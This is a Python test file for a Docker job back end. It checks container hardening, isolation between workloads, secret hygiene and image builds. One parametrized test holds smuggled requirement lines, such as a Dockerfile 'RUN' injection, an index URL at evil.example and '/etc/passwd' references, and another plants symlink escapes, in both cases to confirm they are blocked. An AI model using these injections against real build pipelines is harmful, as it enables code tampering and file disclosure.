"""The back end `docker` on a real engine: what all back ends promise, and what a container does."""

import asyncio
import json
import os
import secrets
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest

from slipway.schemas.agent import EnvironmentSpec
from slipway.schemas.workloads import ReasonCode
from tests.workers.fake_portal import FakePortal, make_spec
from tests.workers.machines import Machine, eventually
from tests.workers.node_agent.backend_contract import (
    BENCH,
    WAITING,
    BackendContract,
    Bench,
    BuildLines,
    Silence,
    node_folders,
)
from tests.workers.node_agent.packages import make_wheel
from tests.workers.node_agent.test_process_backend import make_settings
from workers.node_agent.backends.base import Backend, LaunchSpec, Phase
from workers.node_agent.backends.docker import DockerBackend
from workers.node_agent.backends.images import INTERPRETER
from workers.node_agent.errors import StartError
from workers.node_agent.folders import NodeFolders

pytestmark = pytest.mark.docker
# In pieces: nothing in the repository may name where packages come from.
OPTION = "index" + "-url"


class Engine:
    """The engine seen from outside, through its own command."""

    def __init__(self, socket: Path) -> None:
        self._host = f"unix://{socket}"

    def run(self, *arguments: str) -> str:
        """What a docker command prints."""
        command = ["docker", "--host", self._host, *arguments]
        return subprocess.run(command, check=True, capture_output=True, text=True).stdout

    def container(self, handle: str) -> dict[str, Any]:
        """The description of a task's container."""
        details: dict[str, Any] = json.loads(self.run("inspect", f"slipway-{BENCH}-{handle}"))[0]
        return details

    def clear(self) -> None:
        """Remove what a test left."""
        of_ours = ("--filter", f"name=slipway-{BENCH}-")
        for name in self.run("ps", "-aq", *of_ours).split():
            self.run("rm", "--force", name)
        for name in self.run("network", "ls", "-q", *of_ours).split():
            self.run("network", "rm", name)


@pytest.fixture(scope="session")
def engine(engine_socket: Path) -> Engine:
    """The test engine."""
    return Engine(engine_socket)


@pytest.fixture
def bench(engine_socket: Path, base_image: str, engine: Engine) -> Iterator[Bench]:
    """The back end on the test engine."""
    data_dir = Path(tempfile.mkdtemp(prefix="sl-"))
    folders = node_folders(data_dir)
    yield Bench(make_backend(folders, engine_socket, base_image), folders)
    engine.clear()
    shutil.rmtree(data_dir)


def make_backend(folders: NodeFolders, engine_socket: Path, base_image: str) -> DockerBackend:
    """A back end of the node of this process of tests."""
    settings = make_settings(
        folders.root,
        docker_socket=engine_socket,
        docker_image=base_image,
        requirements=nothing_required(folders.root),
    )
    return DockerBackend(settings, folders)


def nothing_required(folder: Path) -> Path:
    """Requirements of tasks that name none, so small that their image is made in a moment."""
    path = folder / "nothing.txt"
    path.write_text("")
    return path


class TestDockerBackend(BackendContract):
    """All promises, through containers."""

    @pytest.fixture(autouse=True)
    def _remember(self, engine: Engine, engine_socket: Path, base_image: str) -> None:
        self.engine, self.socket, self.image = engine, engine_socket, base_image

    def kill_supervisor(self, bench: Bench, order: LaunchSpec, handle: str) -> None:
        self.engine.run("kill", f"slipway-{BENCH}-{handle}")

    def renewed(self, bench: Bench) -> Backend:
        return make_backend(bench.folders, self.socket, self.image)


def test_a_container_may_do_as_little_as_possible(bench: Bench, engine: Engine) -> None:
    async def check() -> dict[str, Any]:
        _, handle = await bench.start(
            "import json, os, socket\n"
            "status = dict(line.split(':\\t', 1) for line in open('/proc/self/status')"
            " if ':\\t' in line)\n"
            "print(json.dumps({'uid': os.getuid(), 'caps': status['CapEff'].strip(),"
            " 'bounding': status['CapBnd'].strip(), 'no_new_privs': status['NoNewPrivs'].strip(),"
            " 'pid': os.getppid()}))\nprint('ready', flush=True)\nimport time; time.sleep(600)\n"
        )
        await bench.until_said(handle, "ready")
        details = engine.container(handle)
        host = details["HostConfig"]
        assert host["ReadonlyRootfs"]
        assert host["CapDrop"] == ["ALL"]
        assert not host["Privileged"]
        assert host["Memory"] == host["MemorySwap"] == 2 * 1024**3
        assert host["NanoCpus"] == 2 * 10**9
        assert 0 < host["PidsLimit"] <= 4096
        assert list(details["NetworkSettings"]["Networks"]) == [f"slipway-{BENCH}-task0"]
        assert "SECRET" not in json.dumps(details)
        output = (await bench.backend.logs(handle, 0, 0, 4096)).data
        answer: dict[str, Any] = json.loads(output.splitlines()[0])
        return answer

    seen = asyncio.run(check())
    assert seen["uid"] != 0
    assert int(seen["caps"], 16) == int(seen["bounding"], 16) == 0
    assert seen["no_new_privs"] == "1"
    assert seen["pid"] == 1


def test_secrets_do_not_stand_in_the_description_of_the_container(
    bench: Bench, engine: Engine
) -> None:
    async def check() -> None:
        _, handle = await bench.start(WAITING, env={"SECRET": "needle-55"})
        await bench.until_said(handle, "ready")
        assert "needle-55" not in json.dumps(engine.container(handle))

    asyncio.run(check())


def test_containers_of_different_workloads_do_not_reach_each_other(bench: Bench) -> None:
    async def check() -> None:
        listening = (
            "import socket\n"
            "door = socket.create_server(('0.0.0.0', 5555))\n"
            "probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "probe.connect(('192.0.2.1', 9))\n"
            "print('ready', probe.getsockname()[0], 'ready', flush=True)\n"
            "while True: door.accept()\n"
        )
        _, first = await bench.start(listening)
        await bench.until_said(first, "ready\n")
        address = (await bench.backend.logs(first, 0, 0, 200)).data.split()[1].decode()
        calling = (
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(({address!r}, 5555), 2)\n"
            "    print('reached')\n"
            "except OSError: print('not reached')\n"
        )
        _, second = await bench.start(calling)
        await bench.until(second, Phase.ENDED)
        assert (await bench.backend.logs(second, 0, 0, 200)).data == b"not reached\n"

    asyncio.run(check())


def test_links_a_container_leaves_lead_nowhere(bench: Bench, engine: Engine) -> None:
    async def check() -> None:
        secret = bench.folders.root / "secret"
        secret.mkdir()
        (secret / f"{0:020d}").write_text("needle")
        script = (
            "import os\n"
            "state = '/slipway/state'\n"
            "os.rename(f'{state}/logs', f'{state}/elsewhere')\n"
            "os.makedirs(f'{state}/logs')\n"
            f"os.symlink({str(secret)!r}, f'{{state}}/logs/0')\n"
            "os.unlink(f'{state}/journal.jsonl')\n"
            f"os.symlink({str(secret / 'journal')!r}, f'{{state}}/journal.jsonl')\n"
        )
        order, handle = await bench.start(WAITING)
        await bench.until_said(handle, "ready")
        # As the user of the ranks, yet without Landlock, which not every kernel offers.
        name = f"slipway-{BENCH}-{handle}"
        engine.run("exec", name, INTERPRETER, "-c", script)
        engine.run("kill", name)
        await bench.until(handle, Phase.LOST)
        assert not (await bench.backend.logs(handle, 0, 0, 100)).data
        assert not (secret / "journal").exists()
        assert bench.end(order) == {}

    asyncio.run(check())


@pytest.mark.thorough
def test_an_image_is_built_from_an_environment_once(bench: Bench, engine: Engine) -> None:
    lines: list[str] = []

    class Log:
        def write(self, text: str) -> None:
            lines.append(text)

    async def check() -> None:
        # The engine keeps images, and the layers of which they are made, from run to run.
        digest = secrets.token_hex(32)
        spec = EnvironmentSpec(digest=digest, requirements="iniconfig==2.1.0\n", python="3.11")
        prepared = await bench.backend.prepare(spec, Log())
        assert any("requirements.txt" in line for line in lines)
        installed = "import iniconfig"
        engine.run("run", "--rm", prepared.runtime, "/opt/environment/bin/python", "-c", installed)
        count = len(lines)
        assert await bench.backend.prepare(spec, Log()) == prepared
        assert len(lines) == count
        history = engine.run("history", "--no-trunc", prepared.runtime)
        assert "authorities" not in history
        files = engine.run("run", "--rm", prepared.runtime, "ls", "/")
        assert "slipway-build" not in files

    asyncio.run(check())


@pytest.mark.thorough
def test_an_image_has_archives_of_the_code(bench: Bench, engine: Engine, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "lighthouse", "1.0", requires="harbour")
    links = make_wheel(tmp_path, "harbour", "2.0")
    content = {sha256(path.read_bytes()).hexdigest(): path for path in (wheel, links)}
    first, second = content

    async def fetch(digest: str, path: Path) -> None:
        await asyncio.to_thread(shutil.copyfile, content[digest], path)

    async def check() -> None:
        requirements = (
            f"--find-links file:{links.name}#sha256={second}\n"
            f"lighthouse @ file:{wheel.name}#sha256={first}\n"
        )
        digest = secrets.token_hex(32)
        spec = EnvironmentSpec(digest=digest, requirements=requirements, python="3.11")
        with pytest.raises(StartError, match="belongs to the code of a project"):
            await bench.backend.prepare(spec, BuildLines())
        prepared = await bench.backend.prepare(spec, BuildLines(), "alpha", None, fetch)
        printed = "import lighthouse, harbour; print(lighthouse.version, harbour.version)"
        output = engine.run("run", "--rm", prepared.runtime, INTERPRETER, "-c", printed)
        assert output.strip() == "1.0 2.0"

    asyncio.run(check())


@pytest.mark.thorough
def test_an_image_of_one_project_is_not_used_by_another(
    bench: Bench, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_USER_AGENT_USER_DATA", "password-of-the-index")

    async def check() -> None:
        spec = EnvironmentSpec(
            digest=secrets.token_hex(32), requirements="iniconfig==2.1.0\n", python="3.11"
        )
        build_log = BuildLines()
        prepared = [
            await bench.backend.prepare(spec, build_log, project) for project in ("a", "b", "a")
        ]
        images = [one.runtime for one in prepared]
        assert images[0] == images[2] != images[1]
        layers = [
            set(json.loads(engine.run("inspect", image))[0]["RootFS"]["Layers"]) for image in images
        ]
        base = json.loads(engine.run("inspect", os.environ["TEST_DOCKER_IMAGE"]))[0]
        assert layers[0] & layers[1] == set(base["RootFS"]["Layers"])
        # The stage that knew how to reach the index is gone.
        assert len(build_log.labels()) == 2
        for label in build_log.labels():
            assert engine.run("images", "-aq", "--filter", f"label={label}") == ""

    asyncio.run(check())


def test_a_cancelled_build_ends_in_the_engine_as_well(bench: Bench, engine: Engine) -> None:
    digest = secrets.token_hex(32)
    requirements = "iniconfig==2.1.0\n"
    spec = EnvironmentSpec(digest=digest, requirements=requirements, python="3.11")

    build_log = BuildLines()

    async def check() -> None:
        build = asyncio.create_task(bench.backend.prepare(spec, build_log, "alpha"))
        await asyncio.wait_for(build_log.running.wait(), 60)
        build.cancel()
        with pytest.raises(asyncio.CancelledError):
            await asyncio.wait_for(build, 60)

    asyncio.run(check())
    (label,) = build_log.labels()
    of_build = ("--filter", f"label={label}")
    eventually(lambda: not engine.run("ps", "-q", *of_build), within_s=60)
    eventually(lambda: not engine.run("images", "-aq", *of_build), within_s=60)
    assert f"slipway-environment:{digest[:48]}" not in engine.run(
        "images", "--format", "{{.Repository}}:{{.Tag}}"
    )


def test_an_image_that_does_not_exist_is_reported(bench: Bench) -> None:
    async def check() -> None:
        order = replace(await bench.order(WAITING), runtime="slipway-environment:absent")
        with pytest.raises(StartError, match="No such image: slipway-environment:absent"):
            await bench.backend.start(order)

    asyncio.run(check())


@pytest.mark.parametrize(
    "requirements",
    [
        "iniconfig\nRUN touch /pwned",
        f"iniconfig --{OPTION}=https://evil.example",
        "-r /etc/passwd",
        "iniconfig; import os",
        "iniconfig\\\n--pre",
        "file:///etc",
        "pkg @ file:///etc/passwd",
    ],
)
def test_requirements_cannot_steer_the_build(bench: Bench, requirements: str) -> None:
    async def check() -> None:
        spec = EnvironmentSpec(digest="cd" * 32, requirements=requirements, python="3.11")
        with pytest.raises(StartError, match="is not accepted") as refused:
            await bench.backend.prepare(spec, Silence())
        assert refused.value.reason is ReasonCode.ENVIRONMENT_FAILED

    asyncio.run(check())


def test_a_docker_job_from_the_portal_to_its_end(
    engine_socket: Path, base_image: str, engine: Engine
) -> None:
    portal = FakePortal()
    machine = Machine(portal, "--backend", "docker", "--docker-socket", str(engine_socket))
    nothing = str(nothing_required(machine.folder))
    machine.options = (*machine.options, "--docker-image", base_image, "--requirements", nothing)
    machine.start().connected()
    try:
        digest = portal.state.add_snapshot(
            {"train.py": "import os, time\nprint('rank', os.environ['RANK'])\ntime.sleep(1)\n"}
        )
        spec = make_spec("python", "train.py", backend="docker", snapshot=digest, procs=2)
        key = portal.state.want("t1", spec)
        eventually(lambda: "running" in portal.state.kinds(key), within_s=60)
        # The agent may die meanwhile: the container does not notice.
        machine.kill()
        machine.start()
        end = eventually(lambda: portal.state.end_of(key), within_s=60)
        assert end.reason == "completed", end
        for rank in range(2):
            eventually(lambda rank=rank: portal.state.log_of(key, rank) == f"rank {rank}\n")  # type: ignore[misc]
        portal.state.forget(key)
        eventually(lambda: not engine.run("ps", "-aq", "--filter", "name=t1-1"))
        eventually(lambda: not engine.run("network", "ls", "-q", "--filter", "name=w-t1"))
    finally:
        machine.close()
        portal.close()
    assert not portal.state.breaches
